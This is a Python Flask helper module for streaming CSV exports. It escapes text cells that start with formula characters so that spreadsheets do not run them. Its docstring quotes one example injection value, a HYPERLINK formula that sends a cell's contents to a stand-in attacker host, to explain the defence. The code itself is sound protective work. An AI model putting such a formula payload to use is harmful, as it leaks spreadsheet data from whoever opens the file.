"""CSV downloads: streamed, UTF-8 with a BOM (so Excel reads the accents), text cells made safe
from formula injection.

A spreadsheet treats a cell that starts with = + - @ as a formula (and some strip a leading tab or
carriage return first): a customer named `=HYPERLINK("http://evil.example/?"&A2, "Open")` would run
in the owner's Excel. Such text cells get a leading ' — spreadsheets then show the text as typed
and never evaluate it (OWASP, "CSV injection"). Only text is escaped: numbers the export itself
computes (Decimal amounts, counts) stay numbers.
"""
from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Iterator, Sequence

from flask import Response, stream_with_context

BOM = "\ufeff".encode()
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet will show it: text that would start a formula gets a leading '."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_chunk(rows: Iterable[Sequence[Any]]) -> bytes:
    """Rows as CSV bytes (RFC 4180: quoted as needed, CRLF line ends), every cell through safe_cell."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8")


def csv_download(filename: str, chunks: Iterator[bytes]) -> Response:
    """Stream `chunks` as an attachment named `filename`, after a BOM.

    `chunks` is a generator that runs while the response is sent, after the view has returned
    and the request's teardown has run: it must open whatever it reads from itself (see
    tenant_portal.exports, which enters its own tenant context)."""
    def body() -> Iterator[bytes]:
        yield BOM
        yield from chunks

    response = Response(stream_with_context(body()), mimetype="text/csv")  # charset=utf-8 added
    response.headers["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.headers["Cache-Control"] = "no-store"  # customer data: not for shared caches
    return response
